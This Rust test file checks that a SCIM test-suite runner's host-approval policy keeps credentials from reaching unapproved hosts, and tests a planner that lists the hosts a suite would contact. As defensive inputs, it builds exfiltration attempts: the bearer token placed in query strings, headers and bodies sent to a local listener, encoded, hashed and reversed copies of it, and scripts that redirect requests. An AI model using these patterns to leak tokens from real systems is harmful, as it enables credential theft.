//! Secrets go only to hosts the tester approved: each attack a hostile suite can make, over
//! real HTTP on 127.0.0.1, with a listener on another port that must hear nothing while the
//! approved server still gets its requests; and the plan that lists the hosts beforehand.

use serde_json::json;
use suite_engine::*;

use crate::servers::{Server, Silent, Ureq};
use crate::support::*;

const TOKEN: &str = "Bearer host-test-token-0123456789";

/// A script host whose every script does what `script` says.
struct Scripted<F>(F);

impl<F: Fn(&ScriptInput<'_>) -> ScriptOutput> ScriptHost for Scripted<F> {
    async fn run(&self, input: ScriptInput<'_>) -> ScriptOutput {
        (self.0)(&input)
    }
}

fn env(base: &str) -> Environment {
    Environment::with_variables([
        ("SCIMBaseURL", format!("{base}/scim/v2")),
        ("auth", TOKEN.into()),
    ])
}

fn approving(origins: &[&str]) -> RunOptions {
    RunOptions {
        host_policy: HostPolicy::only(origins),
        request_timeout_ms: 2000,
        ..RunOptions::default()
    }
}

fn run<S: ScriptHost>(
    suite: &Suite,
    env: &Environment,
    options: &RunOptions,
    scripts: &S,
) -> RunResult {
    let clock = VirtualClock::new();
    futures::executor::block_on(
        Runner::new(&Ureq::new(), &clock)
            .with_script_host(scripts)
            .run(suite, env, options),
    )
}

fn users_step() -> serde_json::Value {
    json!({"step_type": "request", "url": "{{SCIMBaseURL}}/Users",
           "headers": {"Authorization": ["{{auth}}"]},
           "assertions": [{"source": "response_status", "comparison": "equal_number", "value": "200"}]})
}

/// Asserts step `i` was not sent, with `reason`, its assertions skipped.
fn assert_not_sent(result: &RunResult, i: usize, reason: &str) {
    let step = &result.steps[i];
    assert_eq!(step.outcome, StepOutcome::Error, "step {i}: {step:?}");
    assert_eq!(step.reason.as_deref(), Some(reason), "step {i}");
    let failure = step.failure.as_ref().expect("a failure");
    assert_eq!(failure.kind, FailureKind::NotApproved);
    assert_eq!(failure.message, reason);
    assert!(step.response.is_none());
    assert!(step
        .assertions
        .iter()
        .all(|a| a.outcome == AssertionOutcome::Skipped));
}

fn would_send(what: &str, silent: &Silent) -> String {
    format!(
        "not sent: this request would send {what} to {}, a host you did not approve",
        silent.origin
    )
}

#[test]
fn a_secret_in_a_url_to_another_host_is_not_sent() {
    let (approved, silent) = (Server::start(), Silent::start());
    let suite = suite_of(json!([
        users_step(),
        {"step_type": "request", "url": format!("{}/?t={{{{auth}}}}", silent.origin),
         "assertions": [{"source": "response_status", "comparison": "equal_number", "value": "200"}]},
        {"step_type": "request", "url": "{{SCIMBaseURL}}/Groups", "headers": {"Authorization": ["{{auth}}"]}}
    ]));
    let result = run(
        &suite,
        &env(&approved.origin),
        &approving(&[&approved.origin]),
        &NoScriptHost,
    );

    assert_eq!(result.steps[0].outcome, StepOutcome::Pass);
    assert_not_sent(&result, 1, &would_send("auth", &silent));
    assert_eq!(result.steps[2].outcome, StepOutcome::Pass);
    assert_eq!(silent.connections(), 0);
    let seen = approved.requests();
    let urls: Vec<&str> = seen.iter().map(|s| s.url.as_str()).collect();
    assert_eq!(urls, ["/scim/v2/Users", "/scim/v2/Groups"]);
    assert!(seen[0]
        .headers
        .iter()
        .any(|(n, v)| n.eq_ignore_ascii_case("authorization") && v == TOKEN));

    // The export names the new failure kind and reads back.
    let exported = result.to_json();
    assert!(
        exported.contains("\"kind\": \"not_approved\""),
        "{exported}"
    );
    assert!(!exported.contains("host-test-token"));
    let loaded = load_result(&exported).expect("reads back");
    assert_eq!(
        loaded.options.host_policy,
        HostPolicy::only([&approved.origin])
    );
}

#[test]
fn a_pre_request_script_that_moves_the_request_is_stopped() {
    let (approved, silent) = (Server::start(), Silent::start());
    let target = format!("{}/collect", silent.origin);
    let scripts = Scripted(|input: &ScriptInput<'_>| {
        let mut request = input.request.cloned().unwrap_or_default();
        if input.source.contains("move") {
            request.url = target.clone();
        }
        if input.source.contains("X-Trace") {
            request.headers.push(("X-Trace".into(), vec!["1".into()]));
        }
        if input.source.contains("disguise") {
            // The token reversed, in a header of its own, the credential header gone.
            let reversed: String = TOKEN.chars().rev().collect();
            request.headers = vec![("X-Data".into(), vec![reversed])];
        }
        ScriptOutput {
            request: Some(request),
            ..ScriptOutput::default()
        }
    });
    let mut moved = users_step();
    moved["before_scripts"] = json!(["move(request)"]);
    let mut disguised = users_step();
    disguised["before_scripts"] = json!(["move(request); disguise(request)"]);
    let mut kept = users_step();
    kept["before_scripts"] = json!(["request.headers['X-Trace'] = '1'"]);
    let suite = suite_of(json!([moved, disguised, kept]));
    let result = run(
        &suite,
        &env(&approved.origin),
        &approving(&[&approved.origin]),
        &scripts,
    );

    assert_not_sent(&result, 0, &would_send("auth", &silent));
    assert_not_sent(
        &result,
        1,
        &would_send(
            "what a pre-request script wrote (scripts can read secrets)",
            &silent,
        ),
    );
    // A script that changes a request to an approved host is no concern.
    assert_eq!(result.steps[2].outcome, StepOutcome::Pass);
    assert_eq!(silent.connections(), 0);
    assert_eq!(approved.requests().len(), 1);
}

#[test]
fn an_initial_script_that_points_the_base_url_elsewhere_is_stopped() {
    let (approved, silent) = (Server::start(), Silent::start());
    let elsewhere = format!("{}/scim/v2", silent.origin);
    let scripts = Scripted(|input: &ScriptInput<'_>| ScriptOutput {
        variables_set: if input.kind == ScriptKind::Initial {
            vec![Variable {
                name: "SCIMBaseURL".into(),
                value: elsewhere.clone(),
            }]
        } else {
            Vec::new()
        },
        ..ScriptOutput::default()
    });
    let mut environment = env(&approved.origin);
    environment.initial_script = "variables.set('SCIMBaseURL', 'http://elsewhere')".into();
    let suite = suite_of(json!([users_step()]));
    let result = run(
        &suite,
        &environment,
        &approving(&[&approved.origin]),
        &scripts,
    );

    assert_not_sent(&result, 0, &would_send("auth", &silent));
    assert_eq!(silent.connections(), 0);
    assert!(approved.requests().is_empty());
}

#[test]
fn derived_forms_and_script_values_are_stopped() {
    let (approved, silent) = (Server::start(), Silent::start());
    let other = &silent.origin;
    let scripts = Scripted(|input: &ScriptInput<'_>| ScriptOutput {
        variables_set: if input.kind == ScriptKind::PostResponse {
            let auth = input.variables.get("auth").unwrap_or("");
            vec![Variable {
                name: "note".into(),
                value: auth.chars().rev().collect(),
            }]
        } else {
            Vec::new()
        },
        ..ScriptOutput::default()
    });
    let mut first = users_step();
    first["scripts"] = json!(["variables.set('note', reverse(variables.get('auth')))"]);
    let suite = suite_of(json!([
        first,
        {"step_type": "request", "url": format!("{other}/a?t={{{{base64({{{{auth}}}})}}}}")},
        {"step_type": "request", "url": format!("{other}/b?t={{{{url_encode({{{{auth}}}})}}}}")},
        {"step_type": "request", "url": format!("{other}/c?t={{{{md5({{{{auth}}}})}}}}")},
        {"step_type": "request", "url": format!("{other}/d"), "headers": {"X-Plain": ["{{auth}}"]}},
        {"step_type": "request", "url": format!("{other}/e"), "method": "POST",
         "body": "{\"t\": \"{{auth}}\"}"},
        {"step_type": "request", "url": format!("{other}/f"), "headers": {"Authorization": ["Bearer literal-in-the-suite"]}},
        {"step_type": "request", "url": format!("{other}/g?n={{{{note}}}}")}
    ]));
    let result = run(
        &suite,
        &env(&approved.origin),
        &approving(&[&approved.origin]),
        &scripts,
    );

    assert_eq!(result.steps[0].outcome, StepOutcome::Pass);
    for i in 1..=5 {
        assert_not_sent(&result, i, &would_send("auth", &silent));
    }
    assert_not_sent(&result, 6, &would_send("the Authorization header", &silent));
    assert_not_sent(
        &result,
        7,
        &would_send(
            "note, which a script set (scripts can read secrets),",
            &silent,
        ),
    );
    assert_eq!(silent.connections(), 0);
}

#[test]
fn requests_without_secrets_go_anywhere() {
    let (approved, public) = (Server::start(), Server::start());
    let suite = suite_of(json!([
        users_step(),
        {"step_type": "request", "url": format!("{}/status?user={{{{id}}}}", public.origin),
         "headers": {"Accept": ["application/json"]}}
    ]));
    let result = run(
        &suite,
        &env(&approved.origin),
        &approving(&[&approved.origin]),
        &NoScriptHost,
    );
    assert_eq!(
        result.steps[1].outcome,
        StepOutcome::Pass,
        "{:?}",
        result.steps[1]
    );
    assert_eq!(public.requests().len(), 1);

    // A run with no secret at all sends values scripts made anywhere too.
    let scripts = Scripted(|_: &ScriptInput<'_>| ScriptOutput {
        variables_set: vec![Variable {
            name: "made".into(),
            value: "by-a-script".into(),
        }],
        ..ScriptOutput::default()
    });
    let suite = suite_of(json!([
        {"step_type": "request", "url": format!("{}/one", public.origin), "scripts": ["variables.set('made', 1)"]},
        {"step_type": "request", "url": format!("{}/two?m={{{{made}}}}", public.origin)}
    ]));
    let result = run(&suite, &Environment::default(), &approving(&[]), &scripts);
    assert_eq!(
        result.steps[1].outcome,
        StepOutcome::Pass,
        "{:?}",
        result.steps[1]
    );
    assert_eq!(public.requests().len(), 3);
}

#[test]
fn the_default_policy_approves_every_host() {
    let public = Server::start();
    let suite = suite_of(json!([users_step()]));
    let options = RunOptions {
        request_timeout_ms: 2000,
        ..RunOptions::default()
    };
    assert_eq!(options.host_policy, HostPolicy::Any);
    let result = run(&suite, &env(&public.origin), &options, &NoScriptHost);
    assert_eq!(result.steps[0].outcome, StepOutcome::Pass);
    assert_eq!(public.requests().len(), 1);
}

/// The check the tests above rely on: a request that is sent reaches the silent listener.
#[test]
fn the_silent_listener_counts_a_request_that_is_sent() {
    let silent = Silent::start();
    let suite = suite_of(
        json!([{"step_type": "request", "url": format!("{}/?t={{{{auth}}}}", silent.origin)}]),
    );
    let options = RunOptions {
        request_timeout_ms: 2000,
        ..RunOptions::default()
    };
    let result = run(&suite, &env("http://unused"), &options, &NoScriptHost);
    assert_eq!(result.steps[0].outcome, StepOutcome::Error);
    assert_eq!(silent.connections(), 1);
}

#[test]
fn a_url_that_is_not_absolute_keeps_its_secret() {
    let suite = suite_of(json!([users_step()]));
    let environment = Environment::with_variables([("auth", TOKEN)]);
    let transport = FakeTransport::new(|_: &HttpRequest| Ok(json_response(200, json!({}))));
    let clock = VirtualClock::new();
    let result = futures::executor::block_on(Runner::new(&transport, &clock).run(
        &suite,
        &environment,
        &approving(&["http://127.0.0.1:1"]),
    ));
    assert_not_sent(
        &result,
        0,
        "not sent: this request would send auth to \"%7B%7BSCIMBaseURL%7D%7D/Users\", which is not a full web address",
    );
    assert!(transport.sent.borrow().is_empty());
}

#[test]
fn the_plan_lists_every_host_and_what_it_would_receive() {
    let suite = suite_of(json!([
        users_step(),
        {"step_type": "request", "url": "https://status.example.com/ping"},
        {"step_type": "request", "url": "http://127.0.0.1:9999/?t={{auth}}"},
        {"step_type": "request", "url": "{{SCIMBaseURL}}/Users/{{id}}", "headers": {"Authorization": ["{{auth}}"]},
         "variables": [{"source": "response_json", "property": "id", "name": "id"}]},
        {"step_type": "request", "url": "{{next}}/x", "before_scripts": ["log(1)"]},
        {"step_type": "condition", "left_value": "1", "comparison": "equal", "right_value": "1", "steps": [
            {"step_type": "request", "url": "https://status.example.com/deep",
             "auth": {"auth_type": "basic", "username": "u", "password": "pw-123456"}}
        ]},
        {"step_type": "request", "url": "{{nowhere}}/x", "skipped": true}
    ]));
    let mut environment = env("https://scim.example.com");
    environment.initial_script = "variables.set(\"next\", 'https://b.example.com')".into();
    let plan = plan_hosts(&suite, &environment);

    let origins: Vec<(&str, bool)> = plan
        .hosts
        .iter()
        .map(|h| (h.origin.as_str(), h.receives_secrets()))
        .collect();
    assert_eq!(
        origins,
        [
            ("https://scim.example.com", true),
            ("https://status.example.com", true),
            ("http://127.0.0.1:9999", true),
        ]
    );
    assert_eq!(
        plan.needing_approval(),
        [
            "https://scim.example.com",
            "https://status.example.com",
            "http://127.0.0.1:9999"
        ]
    );
    let scim = &plan.hosts[0].requests;
    assert_eq!(scim.len(), 2);
    assert_eq!(
        scim[1].url,
        "https://scim.example.com/scim/v2/Users/%7B%7Bid%7D%7D"
    );
    let auth = Carried::Secret {
        label: "auth".into(),
    };
    assert_eq!(scim[0].carries, [auth]);
    let status = &plan.hosts[1].requests;
    assert_eq!(status[0].carries, []);
    assert_eq!(status[1].path, [5, 0]);
    assert_eq!(
        status[1].carries,
        [
            Carried::Secret {
                label: "Authorization header".into()
            },
            Carried::Secret {
                label: "auth password".into()
            }
        ]
    );
    assert_eq!(
        plan.hosts[2].requests[0].url,
        "http://127.0.0.1:9999/?t=[secret auth]"
    );

    assert_eq!(plan.unknown.len(), 1);
    let unknown = &plan.unknown[0];
    assert_eq!(unknown.path, [4]);
    assert_eq!(
        unknown.unknown_because.as_deref(),
        Some("its URL uses next, which a script sets during the run")
    );
    assert_eq!(
        unknown.carries,
        [
            Carried::ScriptVariable {
                name: "next".into()
            },
            Carried::PreRequestScript
        ]
    );
}

#[test]
fn the_plan_says_why_a_host_is_unknown() {
    let suite = suite_of(json!([
        {"step_type": "request", "url": "{{SCIMBaseURL}}/Users"},
        {"step_type": "request", "url": "{{base}}/x", "variables": [{"source": "response_json", "property": "b", "name": "base"}]},
        {"step_type": "request", "url": "http://{{sub}}.example.com/"},
        {"step_type": "request", "url": "/relative"}
    ]));
    let plan = plan_hosts(&suite, &Environment::default());
    let why: Vec<&str> = plan
        .unknown
        .iter()
        .filter_map(|r| r.unknown_because.as_deref())
        .collect();
    assert_eq!(
        why,
        [
            "its URL uses SCIMBaseURL, which has no value",
            "its URL uses base, which a step takes from a response",
            "its URL uses sub, which has no value",
            "its URL is not a full http or https address",
        ]
    );
    assert!(plan.hosts.is_empty());
}

/// Okta's suite asks to approve its one server, and runs as before with only that approved.
#[test]
fn okta_s_suite_needs_its_server_approved_and_nothing_else() {
    let suite = okta_suite();
    let plan = plan_hosts(&suite, &okta_environment());
    assert_eq!(plan.needing_approval(), ["https://scim.example.test"]);
    assert_eq!(plan.hosts.len(), 1);
    assert_eq!(plan.hosts[0].requests.len(), 12);
    assert!(plan.unknown.is_empty());

    let scim = Scim::new();
    let transport = FakeTransport::new(|req: &HttpRequest| scim.handle(req));
    let clock = VirtualClock::new();
    let options = RunOptions {
        host_policy: HostPolicy::only(plan.needing_approval()),
        pause_policy: PausePolicy::Skip,
        ..RunOptions::default()
    };
    let result = futures::executor::block_on(
        Runner::new(&transport, &clock)
            .with_script_host(&OktaScripts::default())
            .run(&suite, &okta_environment(), &options),
    );
    assert_eq!(result.summary.steps.errored, 0);
    assert_eq!(transport.sent.borrow().len(), 12);
}
